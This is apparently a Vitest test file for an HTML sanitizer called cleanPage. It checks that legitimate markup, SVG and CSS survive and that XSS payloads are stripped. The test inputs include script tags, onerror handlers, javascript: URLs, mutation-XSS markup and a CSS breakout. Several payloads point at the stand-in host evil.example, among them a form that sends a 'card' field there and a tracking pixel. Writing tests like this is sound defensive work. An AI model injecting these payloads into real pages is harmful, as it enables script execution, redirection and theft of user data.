import { describe, expect, it } from 'vitest';
import { cleanPage } from './clean-page';

const page = (body: string, css = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>T</title><style>${css}</style></head><body>${body}</body></html>`;

describe('cleanPage', () => {
  it('keeps the document, its language, its drawings and its styles', async () => {
    const html = await cleanPage(
      page(
        '<main><h1 id="top">Hello</h1><svg viewBox="0 0 10 10" aria-hidden="true"><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><path d="M0 0h10" fill="url(#g)"/></svg><img src="images/hero.webp" alt="A bowl" width="10" height="10"></main>',
        'main{display:grid;grid-template-columns:repeat(auto-fit,minmax(10rem,1fr))}',
      ),
    );
    expect(html).toMatch(/^<!doctype html><html lang="en">/i);
    expect(html).toContain('<linearGradient id="g">');
    expect(html).toContain('viewBox="0 0 10 10"');
    expect(html).toContain('fill="url(#g)"');
    expect(html).toContain('minmax(10rem,1fr)');
    expect(html).toContain('<img src="images/hero.webp" alt="A bowl" width="10" height="10">');
  });

  it.each([
    ['<script>alert(1)</script>', /script|alert/],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /script|evil/i],
    ['<img src=x onerror=alert(1)>', /onerror|alert/],
    ['<a href="javascript:alert(1)">x</a>', /javascript|alert/],
    ['<a href="data:text/html,<b>x">x</a>', /data:/],
    ['<iframe src="https://evil.example"></iframe>', /iframe|evil/],
    ['<form action="https://evil.example"><input name="card"></form>', /form|input|evil/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /http-equiv/],
    ['<base href="https://evil.example/">', /base|evil/],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', /link|evil/],
    ['<svg><use href="https://evil.example/x.svg#a"/></svg>', /evil/],
    ['<svg><script>alert(1)</script></svg>', /script|alert/],
    ['<svg><style><img src=x onerror=alert(1)></style></svg>', /onerror/],
    ['<div style="background:url(https://evil.example/p.gif)">x</div>', /evil/],
    ['<img src="https://evil.example/pixel.gif" alt="">', /evil/],
    ['<object data="x.swf"></object><embed src="x.swf">', /object|embed|swf/],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /onerror/],
  ])('takes the harm out of %s', async (body, harm) => {
    expect(await cleanPage(page(body))).not.toMatch(harm);
  });

  it.each([
    ['@import url(https://evil.example/x.css);p{color:red}', /import|evil/],
    ['p{background:url("https://evil.example/p.gif")}', /evil/],
    ['@font-face{font-family:a;src:url(https://evil.example/a.woff2)}', /evil/],
    ['p::before{content:"</style><script>alert(1)</script>"}', /<script/],
  ])('takes the harm out of the style %s', async (css, harm) => {
    expect(await cleanPage(page('<p>x</p>', css))).not.toMatch(harm);
  });

  it('keeps the rest of a style sheet that has a fault', async () => {
    expect(await cleanPage(page('<p>x</p>', 'p{color:re d;;margin:1px}h1{color:#123456}'))).toContain(
      '#123456',
    );
  });
});
